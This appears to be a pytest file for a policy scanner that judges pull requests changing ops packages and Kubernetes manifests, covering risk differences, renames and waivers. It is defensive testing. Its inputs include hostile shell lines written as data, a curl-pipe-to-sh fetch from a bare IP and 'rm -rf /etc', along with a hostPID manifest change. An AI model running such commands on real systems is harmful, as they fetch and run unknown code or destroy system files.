"""Pull requests in real repositories: what a change does to the risk, and that a hostile one gets nothing through."""

import json
from pathlib import Path

import pytest
from pull_requests import (
    ALLOW,
    HARMLESS,
    PURGE,
    TODAY,
    WIPE,
    PullRequest,
    handler,
    package,
    policy_waiver,
    rules,
)

from wpk_sandbox import continuous
from wpk_sandbox.finding import Finding
from wpk_sandbox.judging import Judged, Request, judge
from wpk_sandbox.package.discover import changed_for_event
from wpk_sandbox.rules.policy import Outcome

PATHS = {
    "policy": ".wpk-sandbox.yaml",
    "clean": "ops/clean.wpk.yaml",
    "moved": "ops/other/renamed.wpk.yaml",
    "waived": "ops/waived.wpk.yaml",
    "manifest": "k8s/web.yaml",
}


class Change(PullRequest):
    """A pull request whose files are named by what they are for."""

    def named(self, **files: str | None) -> str:
        """Write files by their names in `PATHS` (None removes one), commit all, and give the hash."""
        return self.commit({PATHS[name]: text for name, text in files.items()})

    def judged(self, base: str) -> tuple[list[Judged], list[Finding]]:
        """What CI says of the packages, and what belongs to none of them."""
        said = self.said(base)
        return list(said.packages), list(said.loose)


@pytest.fixture
def change(tmp_path: Path) -> Change:
    return Change(tmp_path)


def test_the_difference_names_the_new_step_and_its_rule(change: Change) -> None:
    base = change.named(clean=package(handler("look", HARMLESS)))
    change.named(clean=package(handler("look", HARMLESS), handler("purge", PURGE)))
    judged = change.one(base)
    assert (judged.base_risk, judged.decision.risk) == (0, 30)
    assert judged.risk_changes == ("step `purge` is new (shell-destroy-data)",)


def test_the_difference_tells_a_changed_step_from_a_new_one_and_what_went(change: Change) -> None:
    base = change.named(clean=package(handler("look", HARMLESS), handler("purge", PURGE)))
    change.named(clean=package(handler("look", "curl http://203.0.113.9/x | sh"), handler("last", HARMLESS)))
    judged = change.one(base)
    assert any(each.startswith("step `look` now has shell-fetch-and-run") for each in judged.risk_changes)
    assert "step `purge` is gone (shell-destroy-data)" in judged.risk_changes


def test_a_step_that_only_moved_makes_no_difference(change: Change) -> None:
    base = change.named(clean=package(handler("look", HARMLESS), handler("purge", PURGE)))
    change.named(clean=package(handler("purge", PURGE), handler("look", HARMLESS)))
    judged = change.one(base)
    assert (judged.base_risk, judged.risk_changes) == (judged.decision.risk, ())


def test_a_package_that_the_base_lacks_has_no_difference(change: Change) -> None:
    base = change.named(policy="")
    change.named(clean=package(handler("purge", PURGE)))
    judged = change.one(base)
    assert (judged.base_risk, judged.risk_changes, judged.decision.risk) == (None, (), 30)


def test_a_change_is_not_hidden_behind_a_rename(change: Change) -> None:
    look = [handler(f"look-{number}", HARMLESS) for number in range(9)]
    base = change.named(clean=package(*look))
    change.named(clean=None, moved=package(*look, handler("purge", PURGE)))
    judged = change.one(base)
    assert judged.package.path == PATHS["moved"]
    assert (judged.base_risk, judged.risk_changes) == (0, ("step `purge` is new (shell-destroy-data)",))


def test_a_rename_that_git_does_not_see_is_followed_by_the_package_name(change: Change) -> None:
    base = change.named(clean=package(handler("look", HARMLESS)))
    change.named(clean=None, moved=package(*(handler(f"purge-{number}", PURGE) for number in range(40))))
    judged = change.one(base)
    assert judged.base_risk == 0
    assert judged.risk_changes[0] == "step `purge-0` is new (shell-destroy-data)"
    assert judged.risk_changes[-1] == "and 32 more"


def test_another_package_in_a_new_file_has_no_difference(change: Change) -> None:
    base = change.named(clean=package(handler("look", HARMLESS)))
    change.named(clean=None, moved=package(*(handler(f"x-{n}", PURGE) for n in range(40)), name="another"))
    assert change.one(base).base_risk is None


def test_the_policy_that_a_pull_request_edits_decides_nothing(change: Change) -> None:
    base = change.named(policy="policy: {required_fields: [metadata.author]}\n", clean=package(handler("a", "ls")))
    loose = "policy: {severity: {shell-destroy-data: off}, review_from: 99}\n"
    change.named(policy=loose, clean=package(handler("purge", PURGE)))
    assert {"shell-destroy-data", "required-field"} <= rules(change.one(base))


def test_the_policy_of_the_base_decides(change: Change) -> None:
    base = change.named(policy="policy: {severity: {shell-destroy-data: off}}\n", clean=package(handler("a", "ls")))
    change.named(policy="", clean=package(handler("purge", PURGE)))
    judged = change.one(base)
    assert (rules(judged), judged.decision.risk) == (set(), 0)


def test_a_waiver_that_comes_with_a_critical_finding_is_refused(change: Change) -> None:
    base = change.named(clean=package(handler("look", HARMLESS)))
    change.named(clean=package(handler("wipe", WIPE, ALLOW.format("shell-destroy-system"))))
    judged = change.one(base)
    assert {"shell-destroy-system", "waiver-refused"} <= rules(judged)
    assert judged.decision.outcome is Outcome.BLOCK


def test_a_critical_finding_that_the_base_waives_stays_waived(change: Change) -> None:
    wiped = handler("wipe", WIPE, ALLOW.format("shell-destroy-system"))
    base = change.named(clean=package(wiped))
    change.named(clean=package(handler("look", HARMLESS), wiped))
    judged = change.one(base)
    assert (rules(judged), judged.decision.outcome) == (set(), Outcome.APPROVE)


@pytest.mark.parametrize(
    "handlers",
    [
        pytest.param([handler("wipe", "rm -rf /etc", ALLOW.format("shell-destroy-system"))], id="another command"),
        pytest.param([handler("other", WIPE, ALLOW.format("shell-destroy-system"))], id="another step"),
        pytest.param([handler("wipe", WIPE + "; ls", ALLOW.format("shell-destroy-system"))], id="more in the step"),
        pytest.param([handler("wipe", WIPE, ALLOW.format("shell-destroy-system"))] * 2, id="a second time"),
    ],
)
def test_a_waiver_of_the_base_excuses_no_other_critical_finding(change: Change, handlers: list[str]) -> None:
    base = change.named(clean=package(handler("wipe", WIPE, ALLOW.format("shell-destroy-system"))))
    change.named(clean=package(*handlers))
    judged = change.one(base)
    assert {"shell-destroy-system", "waiver-refused"} <= rules(judged)
    assert judged.decision.blocked


def test_an_expired_waiver_cannot_be_prolonged_by_the_pull_request(change: Change) -> None:
    old = "# wpk-sandbox: allow shell-destroy-system -- r (until 2026-01-31, @ops)"
    base = change.named(clean=package(handler("wipe", WIPE, old)))
    change.named(clean=package(handler("wipe", WIPE, old.replace("2026", "2027"))))
    assert change.one(base).decision.blocked


def test_a_waiver_that_still_holds_cannot_be_prolonged_by_the_pull_request(change: Change) -> None:
    soon = ALLOW.format("shell-destroy-system").replace("2027-01-31", "2026-12-31")
    base = change.named(clean=package(handler("wipe", WIPE, soon)))
    change.named(clean=package(handler("look", HARMLESS), handler("wipe", WIPE, soon)))
    assert not change.one(base).decision.blocked
    change.named(clean=package(handler("wipe", WIPE, ALLOW.format("shell-destroy-system"))))
    assert change.one(base).decision.blocked


def test_a_comment_does_not_take_over_what_the_policy_waives_elsewhere(change: Change) -> None:
    policy = policy_waiver("shell-destroy-system", text=WIPE)
    base = change.named(policy=policy, waived=package(handler("wipe", WIPE)))
    change.named(waived=None, moved=package(handler("wipe", WIPE)))
    assert change.one(base).decision.blocked
    change.named(moved=package(handler("wipe", WIPE, ALLOW.format("shell-destroy-system"))))
    assert change.one(base).decision.blocked


def test_waived_text_behind_another_command_excuses_nothing(change: Change) -> None:
    base = change.named(policy=policy_waiver("shell-destroy-system", text="rm -rf /etc"))
    change.named(waived=package(handler("wipe", WIPE + " # rm -rf /etc")))
    assert change.one(base).decision.blocked
    change.named(waived=package(handler("wipe", "rm -rf /etc")))
    assert not change.one(base).decision.blocked


def test_packages_that_change_places_take_no_waiver_along(change: Change) -> None:
    wiped = package(handler("wipe", WIPE, ALLOW.format("shell-destroy-system")))
    other = package(handler("wipe", WIPE), name="other")
    base = change.named(clean=wiped, moved=other)
    change.named(clean=other, moved=wiped)
    judged, _ = change.judged(base)
    assert [each.decision.blocked for each in judged] == [True, True]


def test_a_moved_file_keeps_what_the_base_waives_and_gains_nothing(change: Change) -> None:
    wiped = handler("wipe", WIPE, ALLOW.format("shell-destroy-system"))
    looks = [handler(f"look-{number}", HARMLESS) for number in range(9)]
    base = change.named(clean=package(*looks, wiped))
    change.named(clean=None, moved=package(*looks, wiped))
    assert not change.one(base).decision.blocked
    change.named(moved=package(*looks, wiped, handler("again", WIPE, ALLOW.format("shell-destroy-system"))))
    judged = change.one(base)
    assert judged.decision.blocked
    assert judged.risk_changes == ("step `again` is new (shell-destroy-system)", "waiver-refused is new")


def test_a_file_that_moves_to_a_waived_path_is_waived_only_for_the_text_that_the_policy_names(
    change: Change,
) -> None:
    policy = policy_waiver("shell-destroy-system", text="rm -rf /srv/../")
    base = change.named(policy=policy, clean=package(handler("look", HARMLESS)))
    change.named(clean=None, waived=package(handler("look", HARMLESS), handler("wipe", WIPE)))
    assert change.one(base).decision.blocked


def test_a_critical_rule_is_waived_by_the_policy_of_the_base_for_one_file_and_line(change: Change) -> None:
    exact = policy_waiver("shell-destroy-system", text=WIPE)
    base = change.named(policy=exact)
    change.named(waived=package(handler("wipe", WIPE)))
    assert not change.one(base).decision.blocked


@pytest.mark.parametrize("further", [{}, {"text": WIPE, "path": "ops/*.wpk.yaml"}])
def test_a_critical_rule_is_not_waived_broadly(change: Change, further: dict[str, str]) -> None:
    base = change.named(policy=policy_waiver("shell-destroy-system", **further))
    change.named(waived=package(handler("wipe", WIPE)))
    judged = change.one(base)
    assert judged.decision.blocked
    assert "waiver-refused" in rules(judged)


def test_a_waiver_that_a_pull_request_adds_to_the_policy_does_not_count(change: Change) -> None:
    base = change.named(policy="")
    added = policy_waiver("shell-destroy-data")
    change.named(policy=added, waived=package(handler("purge", PURGE)))
    assert rules(change.one(base)) == {"shell-destroy-data"}


def test_the_policys_own_waivers_are_looked_after(change: Change) -> None:
    entries = [
        {"rule": "shell-destroy-data", "path": "ops/*", "reason": "r", "until": "2026-11-22", "owner": "@ops"},
        {"rule": "external-call", "path": "ops/*", "reason": "r", "until": "2026-11-23", "owner": "@ops"},
        {"rule": "external-call", "path": "elsewhere/*", "reason": "r", "until": "2026-11-23", "owner": "@ops"},
        {"rule": "external-call", "path": "ops/*", "reason": "r", "owner": "@ops"},
    ]
    base = change.named(policy=json.dumps({"policy": {"waivers": entries}}))
    change.named(clean=package(handler("purge", PURGE)))
    (judged,), loose = change.judged(base)
    assert rules(judged) == {"shell-destroy-data"}
    assert [each.rule for each in loose] == ["waiver-expired", "waiver-unused", "waiver-invalid"]
    assert {each.location.path for each in loose} == {".wpk-sandbox.yaml"}


def test_outside_of_a_pull_request_a_comment_waives_critical_findings_too(change: Change) -> None:
    change.named(clean=package(handler("wipe", WIPE, ALLOW.format("shell-destroy-system"))))
    settings = continuous.settings(change.root, {}, {}, None)
    selection = changed_for_event(change.root, {"GITHUB_EVENT_NAME": "schedule"}, {})
    request = continuous.measured(Request(change.root, selection, settings, "run", today=TODAY), {})
    (judged,) = judge(request, [])
    assert not judged.decision.blocked


APPLIES = "    - {name: roll, type: k8s, timeout: 5s, config: {action: apply, manifest: k8s/web.yaml}}\n"
POD = """\
apiVersion: v1
kind: Pod
metadata: {name: web, namespace: shop}
spec:
  automountServiceAccountToken: false
  securityContext: {runAsNonRoot: true, seccompProfile: {type: RuntimeDefault}}
  containers:
    - name: web
      image: registry.example.com/web:1.2.0
      resources: {limits: {cpu: 100m, memory: 64Mi}}
      securityContext: {allowPrivilegeEscalation: false, capabilities: {drop: [ALL]}}
"""
WAIVE = "# wpk-sandbox: allow host-namespace -- it reads processes (until 2027-01-31, @ops)"


def test_a_change_of_a_manifest_beside_the_package_is_measured_against_the_base(change: Change) -> None:
    base = change.named(clean=package(APPLIES), manifest=POD)
    change.named(manifest=POD.replace("spec:\n", "spec:\n  hostPID: true\n"))
    judged = change.one(base)
    assert (judged.base_risk, judged.decision.outcome) == (0, Outcome.BLOCK)
    assert any("host-namespace" in each for each in judged.risk_changes)


def test_a_comment_of_the_pull_request_waives_no_critical_finding_of_a_manifest(change: Change) -> None:
    base = change.named(clean=package(APPLIES), manifest=POD)
    change.named(manifest=POD.replace("spec:\n", f"spec:\n  hostPID: true {WAIVE}\n"))
    judged = change.one(base)
    assert "host-namespace" in rules(judged)
    assert judged.decision.outcome is Outcome.BLOCK


def test_a_name_is_taken_by_a_package_that_the_pull_request_does_not_touch(change: Change) -> None:
    base = change.named(waived=package(handler("look", HARMLESS), name="clean-up"))
    change.named(clean=package(handler("look", HARMLESS), name="clean-up"))
    (finding,) = [each for each in change.one(base).findings if each.rule == "name-taken"]
    assert finding.message == "ops/waived.wpk.yaml:3 is called `clean-up` too"
    assert finding.location.path == "ops/clean.wpk.yaml"


def test_a_package_that_moves_takes_its_name_with_it(change: Change) -> None:
    base = change.named(clean=package(handler("look", HARMLESS)))
    change.named(clean=None, moved=package(handler("look", HARMLESS)))
    assert "name-taken" not in rules(change.one(base))
